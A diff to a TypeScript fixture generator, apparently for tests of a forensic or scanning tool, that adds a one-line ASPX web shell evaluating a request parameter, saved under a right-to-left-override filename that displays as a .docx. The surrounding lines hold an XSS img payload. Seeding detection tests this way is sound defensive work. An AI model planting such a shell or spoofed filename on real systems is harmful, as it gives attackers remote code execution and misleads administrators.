@@ -119,6 +119,8 @@ export function writeHostileEvidence(root: string): { shellPath: string; logPath
     '<img src=x onerror=alert("xss-img")>',
     '',
   ].join('\r\n'));
+  // A right-to-left override makes this name read as "xpsa.docx" (issue 11, item 16).
+  fs.writeFileSync(path.join(shellDir, '\u202excod.aspx'), '<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>');
   const logPath = path.join(logDir, 'u_ex210303.log');
   fs.writeFileSync(logPath, [
     '#Software: Microsoft Internet Information Services 10.0',
